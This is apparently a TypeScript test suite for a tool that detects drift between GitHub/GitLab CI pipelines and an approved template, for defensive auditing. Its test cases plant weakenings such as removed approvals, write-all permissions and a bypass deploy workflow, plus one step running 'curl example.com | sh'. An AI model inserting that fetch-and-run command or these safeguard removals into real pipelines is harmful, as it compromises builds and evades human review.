import assert from 'node:assert/strict';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { pipeline } from '../../src/collectors/pipeline/index.ts';
import { TallyError } from '../../src/errors.ts';
import { collectAll } from '../collect-all.ts';
import { samplePath, samplesSkip } from '../samples.ts';
import { accuracyOf } from './outcome.ts';
import { differences as differencesIn, read } from './readings.ts';

const finds = accuracyOf('pipeline', 'GitHub and GitLab repositories against a template');

const FIXTURES = fileURLToPath(new URL('../../src/collectors/pipeline/fixtures/', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'pipeline-'));
after(() => rmSync(folder, { recursive: true }));
let count = 0;

/** What differs between the approved template and a repository. */
const differences = async (template: string, live: string, options = {}): Promise<string[]> =>
  differencesIn(pipeline, await read(pipeline, template, options), await read(pipeline, live, options));

/** A copy of a template, with changes: replacements in a file, or a file of its own. */
function changed(template: string, change: (copy: Copy) => void): string {
  count += 1;
  const copy = join(folder, `copy-${count}`);
  cpSync(join(FIXTURES, template), copy, { recursive: true });
  change({
    edit(path, from, to) {
      const text = readFileSync(join(copy, path), 'utf8');
      assert.ok(text.includes(from), `nothing to change in ${path}: ${from}`);
      writeFileSync(join(copy, path), text.replace(from, to));
    },
    write(path, text) {
      mkdirSync(dirname(join(copy, path)), { recursive: true });
      writeFileSync(join(copy, path), text);
    },
    remove: (path) => rmSync(join(copy, path)),
  });
  return copy;
}

interface Copy {
  edit(path: string, from: string, to: string): void;
  write(path: string, text: string): void;
  remove(path: string): void;
}

type Case = readonly [title: string, change: (copy: Copy) => void, expected: readonly string[]];

const DEPLOY = '.github/workflows/deploy.yml';
const FORGE = 'tallyman/repository.json';
const BYPASS = `on: workflow_dispatch
jobs:
  now: { runs-on: ubuntu-24.04, environment: production, steps: [{ run: ./deploy.sh production }] }
`;
const WAY = 'production_path production path#/jobs';

const GITHUB: readonly Case[] = [
  [
    'a workflow that deploys by hand, past everything',
    (copy) => copy.write('.github/workflows/hotfix.yml', BYPASS),
    ['job hotfix/now#', `${WAY}/hotfix~1now`, 'token_permissions hotfix#', 'workflow hotfix#'],
  ],
  [
    'a deployment with a production secret and no environment',
    (copy) =>
      copy.write(
        '.github/workflows/x.yml',
        `on: push\njobs: { j: { runs-on: x, steps: [{ run: "go $\{{ secrets.PROD_KEY }}" }] } }`,
      ),
    ['job x/j#', `${WAY}/x~1j`, 'token_permissions x#', 'workflow x#'],
  ],
  [
    'a lost gate before production',
    (copy) => copy.edit(DEPLOY, '    needs: staging\n', ''),
    [
      'job deploy/production#/needs',
      `${WAY}/deploy~1production/after/0`,
      `${WAY}/deploy~1production/after/1`,
      `${WAY}/deploy~1production/after/2`,
    ],
  ],
  [
    'a lost condition',
    (copy) => copy.edit(DEPLOY, "    if: github.ref == 'refs/heads/main'\n", ''),
    ['job deploy/production#/if', `${WAY}/deploy~1production/conditions/0`],
  ],
  [
    'a condition that lets failures through',
    (copy) => copy.edit(DEPLOY, 'if: github.ref', 'if: always() && github.ref'),
    ['job deploy/production#/if', `${WAY}/deploy~1production/conditions/0`],
  ],
  [
    'another trigger',
    (copy) => copy.edit(DEPLOY, '  push:\n', '  schedule: [{ cron: "0 3 * * *" }]\n  push:\n'),
    [`${WAY}/deploy~1production/startedBy/1`, 'workflow deploy#/on/schedule'],
  ],
  [
    'another branch',
    (copy) => copy.edit(DEPLOY, '[main]', '[main, "hotfix/**"]'),
    [`${WAY}/deploy~1production/startedBy/0`, 'workflow deploy#/on/push/branches/0'],
  ],
  [
    'an extra step',
    (copy) =>
      copy.edit(
        DEPLOY,
        '      - run: ./deploy.sh production',
        '      - run: curl example.com | sh\n      - run: ./deploy.sh production',
      ),
    ['job deploy/production#/steps/1'],
  ],
  [
    'a step that is gone',
    (copy) => copy.edit(DEPLOY, '      - run: ./scan.sh --token=canary-in-a-script\n', ''),
    ['job deploy/scan#/steps/1'],
  ],
  [
    'a line in a script',
    (copy) => copy.edit(DEPLOY, 'npm test', 'npm test || true'),
    ['job deploy/test#/steps/2/run/1'],
  ],
  [
    'another action version',
    (copy) => copy.edit(DEPLOY, 'setup-node@v4', 'setup-node@v5'),
    ['job deploy/test#/steps/1/version'],
  ],
  [
    'a tag in place of a commit',
    (copy) => copy.edit(DEPLOY, '11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', 'v4'),
    ['job deploy/test#/steps/0/pinned', 'job deploy/test#/steps/0/version'],
  ],
  [
    'another input of an action',
    (copy) => copy.edit(DEPLOY, 'node-version: 24', 'node-version: 22'),
    ['job deploy/test#/steps/1/with/node-version'],
  ],
  [
    'wider permissions',
    (copy) => copy.edit(DEPLOY, 'id-token: write, contents: read', 'id-token: write, contents: write'),
    ['token_permissions deploy#/jobs/production/contents'],
  ],
  [
    'permissions for everything',
    (copy) => copy.edit(DEPLOY, 'permissions:\n  contents: read', 'permissions: write-all'),
    ['token_permissions deploy#/workflow'],
  ],
  [
    'another runner',
    (copy) => copy.edit(DEPLOY, '[self-hosted, linux]', '[self-hosted, linux, big]'),
    ['job deploy/scan#/runs-on/0'],
  ],
  [
    'another secret',
    (copy) => copy.edit(DEPLOY, 'secrets.DEPLOY_TOKEN', 'secrets.ADMIN_TOKEN'),
    ['job deploy/production#/secretsUsed/0', 'job deploy/production#/steps/1/env/TOKEN'],
  ],
  [
    'another written secret',
    (copy) => copy.edit(DEPLOY, 'canary-in-an-env', 'canary-in-another'),
    ['workflow deploy#/env/ERP_PASSWORD'],
  ],
  [
    'an ignored failure',
    (copy) => copy.edit(DEPLOY, '  scan:\n', '  scan:\n    continue-on-error: true\n'),
    ['job deploy/scan#/continue-on-error'],
  ],
  [
    'a changed action of the repository',
    (copy) => copy.edit('.github/actions/sign/action.yml', 'cosign sign', 'true'),
    ['action .github/actions/sign#/runs/steps/0/run/0'],
  ],
  [
    'a way through a called workflow',
    (copy) => copy.edit('.github/workflows/release.yml', 'published', 'published, edited'),
    [`${WAY}/release~1all → apply~1apply/startedBy/0`, 'workflow release#/on/release/types/0'],
  ],
  [
    'a workflow of another repository',
    (copy) =>
      copy.edit(
        '.github/workflows/release.yml',
        './.github/workflows/apply.yml',
        'other/repo/.github/workflows/apply.yml@main',
      ),
    [
      'job release/all#/pinned',
      'job release/all#/uses',
      'job release/all#/version',
      `${WAY}/release~1all → apply~1apply`,
      'production_path production path#/unread/0',
    ],
  ],
  [
    'a removed workflow',
    (copy) => copy.remove('.github/workflows/release.yml'),
    [
      'job release/all#',
      `${WAY}/release~1all → apply~1apply`,
      'token_permissions release#',
      'workflow release#',
    ],
  ],
  [
    'a removed approval',
    (copy) => copy.edit(FORGE, '"required_reviewers"', '"none"'),
    [
      'environment production#/otherRules/0',
      'environment production#/preventSelfReview',
      'environment production#/reviewers/0',
      'environment production#/reviewers/1',
      ...['deploy~1production', 'release~1all → apply~1apply'].flatMap((way) =>
        ['/otherRules/0', '/preventSelfReview', '/reviewers/0', '/reviewers/1'].map(
          (path) => `${WAY}/${way}/protection/production${path}`,
        ),
      ),
    ],
  ],
  [
    'a shorter wait',
    (copy) => copy.edit(FORGE, '"wait_timer": 30', '"wait_timer": 0'),
    [
      'environment production#/waitMinutes',
      `${WAY}/deploy~1production/protection/production/waitMinutes`,
      `${WAY}/release~1all → apply~1apply/protection/production/waitMinutes`,
    ],
  ],
  [
    'fewer reviews of a branch',
    (copy) =>
      copy.edit(FORGE, '"required_approving_review_count": 2', '"required_approving_review_count": 1'),
    ['branch_protection main#/required_pull_request_reviews/required_approving_review_count'],
  ],
  [
    'administrators who may do as they like',
    (copy) => copy.edit(FORGE, '"enabled": true', '"enabled": false'),
    ['branch_protection main#/enforce_admins'],
  ],
  [
    'a ruleset that only watches',
    (copy) => copy.edit(FORGE, '"active"', '"evaluate"'),
    ['ruleset Tags#/enforcement'],
  ],
  [
    'another owner of code',
    (copy) => copy.edit('.github/CODEOWNERS', '* @example/platform', '* @example/all'),
    ['code_owners CODEOWNERS#/rules/0'],
  ],
];

const CI = '.gitlab-ci.yml';
const GITLAB: readonly Case[] = [
  [
    'a job past the approval',
    (copy) =>
      copy.edit(
        CI,
        '.deploy:',
        'now:\n  environment: production\n  script: ./deploy.sh\n  when: manual\n.deploy:',
      ),
    ['job gitlab-ci/now#', `${WAY}/gitlab-ci~1now`, 'workflow gitlab-ci#/jobs/1'],
  ],
  [
    'a deployment that starts by itself',
    (copy) => copy.edit(CI, '      when: manual\n', ''),
    ['job gitlab-ci/production#/rules/0/when', `${WAY}/gitlab-ci~1production/startedBy/0`],
  ],
  [
    'another version of an include',
    (copy) => copy.edit(CI, 'ref: v3', 'ref: main'),
    ['production_path production path#/unread/0', 'workflow gitlab-ci#/include/1'],
  ],
  [
    'a change in an included file',
    (copy) => copy.edit('ci/base.yml', 'retry: 1', 'retry: 2'),
    ['job gitlab-ci/test#/retry'],
  ],
  [
    'a change behind a reference',
    (copy) => copy.edit('ci/base.yml', 'echo gone', 'echo here'),
    ['job gitlab-ci/test#/after/1', 'job gitlab-ci/test#/script/2'],
  ],
  [
    'a changed anchor',
    (copy) => copy.edit(CI, './deploy.sh', './deploy.sh -f'),
    ['job gitlab-ci/production#/script/0', 'job gitlab-ci/staging#/script/0'],
  ],
  [
    'a changed default',
    (copy) => copy.edit(CI, 'node:24', 'node:25'),
    ['build', 'production', 'staging', 'test'].map((job) => `job gitlab-ci/${job}#/image/name`),
  ],
  [
    'fewer approvals',
    (copy) => copy.edit(FORGE, '"required_approval_count": 2', '"required_approval_count": 0'),
    [
      'environment production#/required_approval_count',
      `${WAY}/gitlab-ci~1production/protection/production/required_approval_count`,
    ],
  ],
  [
    'a lost need',
    (copy) => copy.edit(CI, '[staging, test]', '[staging]'),
    ['job gitlab-ci/production#/needs/1', `${WAY}/gitlab-ci~1production/after/1`],
  ],
];

for (const [template, cases] of [
  ['github', GITHUB],
  ['gitlab', GITLAB],
] as const) {
  describe(`a ${template} repository against its template`, () => {
    it('shows no difference where nothing was changed', async () => {
      finds(await differences(join(FIXTURES, template), join(FIXTURES, template)), []);
    });
    for (const [title, change, expected] of cases) {
      it(`shows ${title}, and nothing else`, async () => {
        const found = await differences(join(FIXTURES, template), changed(template, change));
        finds(found, [...expected].sort());
      });
    }
  });
}

describe('a repository against its template', () => {
  it('shows no difference in the same definitions, written otherwise', async () => {
    finds(await differences(join(FIXTURES, 'github'), join(FIXTURES, 'github-reformatted')), []);
  });

  it('says nothing of protection that the template does not speak of', async () => {
    const template = changed('github', (copy) => copy.remove(FORGE));
    const found = await differences(template, join(FIXTURES, 'github'));
    finds(
      found.filter((each) => each.startsWith('production_path')),
      [],
    );
  });

  it('finds the partners of what is named otherwise', async () => {
    const live = changed('github', (copy) => {
      copy.write(
        '.github/workflows/deploy-wms.yml',
        readFileSync(join(FIXTURES, 'github', DEPLOY), 'utf8').replaceAll('production', 'live'),
      );
      copy.remove(DEPLOY);
      copy.edit(FORGE, '"production"', '"live"');
      copy.edit('.github/workflows/release.yml', '[staging, production]', '[staging, live]');
    });
    const names = { 'deploy-wms': 'deploy', live: 'production' };
    finds(await differences(join(FIXTURES, 'github'), live, { names }), [
      'job deploy/production#/steps/1/run/0',
      'job release/all#/strategy/matrix/target/1',
    ]);
  });
});

describe('pipeline on definitions of others', { skip: samplesSkip('.') ?? false }, () => {
  it('reads any YAML as a workflow or a pipeline, or says what is wrong with it', async () => {
    const root = samplePath('.');
    const paths = readdirSync(root, { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.ya?ml$/.test(path))
      .slice(0, 200);
    assert.ok(paths.length > 20 && existsSync(root), `${paths.length} files`);
    for (const path of paths) {
      const text = readFileSync(join(root, path), 'utf8');
      const copy = changed('gitlab', ({ write }) => {
        write('.github/workflows/other.yml', text);
        write('.gitlab-ci.yml', text);
      });
      await collectAll(pipeline, copy).catch((error: unknown) => {
        assert.ok(error instanceof TallyError && error.code.startsWith('source-'), `${path}: ${error}`);
      });
      rmSync(copy, { recursive: true });
    }
  });
});
